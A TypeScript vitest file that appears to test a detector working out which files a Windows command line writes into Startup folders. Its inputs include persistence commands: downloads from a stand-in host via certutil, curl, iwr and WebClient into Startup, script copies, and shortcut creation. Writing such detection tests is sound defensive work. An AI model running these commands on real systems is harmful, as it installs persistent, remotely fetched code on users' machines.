import { expect, it } from 'vitest';
import { writtenFiles } from '../../../src/core/windows/launch/written-files.ts';

const MENU = 'Microsoft\\Windows\\Start Menu\\Programs\\Startup';
const OWN = `?:\\users\\*\\appdata\\roaming\\${MENU.toLowerCase()}`;
const ALL = `c:\\programdata\\${MENU.toLowerCase()}`;

it.each([
  [`cmd /c copy C:\\t\\a.bat "%APPDATA%\\${MENU}"`, [`${OWN}\\a.bat`]],
  [`cmd /c copy /y C:\\t\\a.bat "%APPDATA%\\${MENU}\\b.bat" >nul`, [`${OWN}\\b.bat`]],
  [`cmd /c "echo start x > "C:\\ProgramData\\${MENU}\\a.bat""`, [`${ALL}\\a.bat`]],
  [`xcopy C:\\t\\a.exe "C:\\ProgramData\\${MENU}\\"`, [`${ALL}\\a.exe`]],
  [`cmd /c robocopy C:\\t "C:\\ProgramData\\${MENU}" a.vbs b.vbs`, [`${ALL}\\a.vbs`, `${ALL}\\b.vbs`]],
  [
    `"powershell.exe" & {Copy-Item \\""C:\\t t\\a.vbs\\"" \\""$env:APPDATA\\${MENU}\\a.vbs\\""\nCopy-Item \\""C:\\t t\\a.vbs\\"" \\""C:\\ProgramData\\${MENU}\\a.vbs\\""\ncscript.exe \\""$env:APPDATA\\${MENU}\\a.vbs\\""}`,
    [`${OWN}\\a.vbs`, `${ALL}\\a.vbs`],
  ],
  [
    `"powershell.exe" & {$t = \\""C:\\t\\a.exe\\""\n$l = \\""$home\\AppData\\Roaming\\${MENU}\\a.lnk\\""\n$w = New-Object -ComObject WScript.Shell\n$c = $w.CreateShortcut($l)\n$c.TargetPath = $t\n$c.Save()}`,
    [`${OWN}\\a.lnk`],
  ],
  [
    `powershell -c "$s = [Environment]::GetFolderPath('Startup'); cp C:\\t\\a.js ($s + '\\a.js')"`,
    [`${OWN}\\a.js`],
  ],
  [
    `powershell -c "$s = [Environment]::GetFolderPath('Startup') + '\\a.js'; cp C:\\t\\a.js $s"`,
    [`${OWN}\\a.js`],
  ],
  [
    `powershell -c "Copy-Item -Path C:\\t\\a.js -Destination (Join-Path $env:APPDATA '${MENU}')"`,
    [`${OWN}\\a.js`],
  ],
  [`powershell -c "iwr https://e.test/a -OutFile 'C:\\ProgramData\\${MENU}\\a.exe'"`, [`${ALL}\\a.exe`]],
  [`powershell -c "'x' | Out-File 'C:\\ProgramData\\${MENU}\\a.bat'"`, [`${ALL}\\a.bat`]],
  [
    `powershell -c "(New-Object Net.WebClient).DownloadFile('https://e.test/a','C:\\ProgramData\\${MENU}\\a.exe')"`,
    [`${ALL}\\a.exe`],
  ],
  [`curl -s -o "C:\\ProgramData\\${MENU}\\a.exe" https://e.test/a`, [`${ALL}\\a.exe`]],
  [`certutil -urlcache -split -f https://e.test/a "C:\\ProgramData\\${MENU}\\a.exe"`, [`${ALL}\\a.exe`]],
  [`"C:\\p p\\Update.exe" --createShortcut a.exe -l=Desktop,Startup`, [`${OWN}\\*.lnk`]],
  [`C:\\p\\Update.exe --createShortcut=a.exe --shortcut-locations Startup`, [`${OWN}\\*.lnk`]],
  [`C:\\p\\Update.exe --createShortcut a.exe -l=Desktop,StartMenu`, []],
  [`cmd /c dir "C:\\ProgramData\\${MENU}" > nul`, []],
  [`cmd /c del "C:\\ProgramData\\${MENU}\\a.exe"`, []],
  [`explorer "C:\\ProgramData\\${MENU}"`, []],
])('%s', (line, files) => {
  expect(writtenFiles(line)).toEqual(files);
});
